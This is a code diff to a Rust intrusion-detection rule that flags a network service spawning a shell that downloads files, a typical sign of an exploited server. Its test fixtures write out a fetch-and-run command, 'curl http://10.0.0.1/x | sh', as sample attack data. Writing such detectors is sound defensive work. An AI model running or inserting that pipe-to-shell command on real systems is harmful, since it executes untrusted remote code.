@@ -1,21 +1,46 @@
-//! B1: a service started a shell that downloads.
+//! B1: a service starts a shell that downloads.
 
 use crate::{
-    detect::{DetectionContext, Finding, signals},
-    model::ProcessKey,
+    detect::{Declaration, DetectionContext, Finding, Findings, SignalInfo, Stateless},
+    model::{EventType, ProcessKey, SignalClass},
     process::{Role, Taint},
 };
 
-/// The most programs between the downloader and the service: shells and what they run things with.
-const MAX_BETWEEN: usize = 8;
+/// The most ancestors of the downloader that are looked at: shells and what they run things with.
+const MAX_ANCESTORS: usize = 8;
+
+/// The signal.
+pub const SERVICE_DOWNLOADER: SignalInfo = SignalInfo {
+    id: "B1",
+    class: SignalClass::Behavior,
+    weight: 35,
+    full_weight: 35,
+    name: "Service started a shell that downloads",
+    description: "A network service started a shell, and the shell a program that fetches files: what an exploited service does.",
+    catches: "The break-in itself, before any miner is there.",
+    techniques: &["T1190", "T1059.004", "T1105"],
+    ..SignalInfo::NONE
+};
+
+/// The detector's row.
+pub(in crate::detect) static DETECTOR: Declaration = Declaration {
+    signals: &[SERVICE_DOWNLOADER],
+    wants: &[EventType::Exec],
+    evictions: None,
+    create: |_| Box::new(Stateless(inspect)),
+};
+
+fn inspect(context: &DetectionContext<'_>, findings: &mut Findings) {
+    findings.extend(judge(context));
+}
 
 /// A downloader was started: is there a shell above it, and a service above that?
-pub fn service_downloader(context: &DetectionContext<'_>) -> Option<Finding> {
+fn judge(context: &DetectionContext<'_>) -> Option<Finding> {
     if context.process.role != Role::Downloader {
         return None;
     }
     let mut shell: Option<ProcessKey> = None;
-    for ancestor in context.table.ancestry(context.key()).skip(1).take(MAX_BETWEEN) {
+    for ancestor in context.table.ancestry(context.key()).skip(1).take(MAX_ANCESTORS) {
         match ancestor.role {
             Role::Shell => shell = Some(ancestor.key()),
             Role::Interpreter | Role::Downloader | Role::Other => {}
@@ -27,10 +52,10 @@ pub fn service_downloader(context: &DetectionContext<'_>) -> Option<Finding> {
                     ancestor.key().pid,
                     context.process.view.name
                 );
-                let mut finding = Finding::new(signals::SERVICE_DOWNLOADER, context, detail)
-                    .with("service", &ancestor.view.executable.path)
-                    .with("downloader", &context.process.view.executable.path);
-                finding.taint = Some(Taint::FetchesForService);
+                let finding = Finding::new(SERVICE_DOWNLOADER, context, detail)
+                    .tainting(Taint::FetchesForService)
+                    .value("service", &ancestor.view.executable.path)
+                    .value("downloader", &context.process.view.executable.path);
                 return Some(finding);
             }
             Role::Kernel
@@ -49,7 +74,7 @@ pub fn service_downloader(context: &DetectionContext<'_>) -> Option<Finding> {
 
 #[cfg(test)]
 mod tests {
-    use crate::engine::testing::{Host, findings};
+    use crate::testing::{Host, findings};
 
     /// Each program starts the next; the last one downloads.
     fn lineage(programs: &[(&str, &[&str])]) -> Vec<(&'static str, u8)> {
@@ -62,7 +87,7 @@ mod tests {
     }
 
     #[test]
-    fn exploited_services() {
+    fn services_whose_shells_download_are_found() {
         let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x | sh"]);
         let cases: [&[(&str, &[&str])]; 4] = [
@@ -82,7 +107,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_usual() {
+    fn other_downloads_are_not_found() {
         let curl: (&str, &[&str]) = ("/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
         let shell: (&str, &[&str]) = ("/usr/bin/dash", &["sh", "-c", "curl http://10.0.0.1/x"]);
         let cases: [&[(&str, &[&str])]; 6] = [
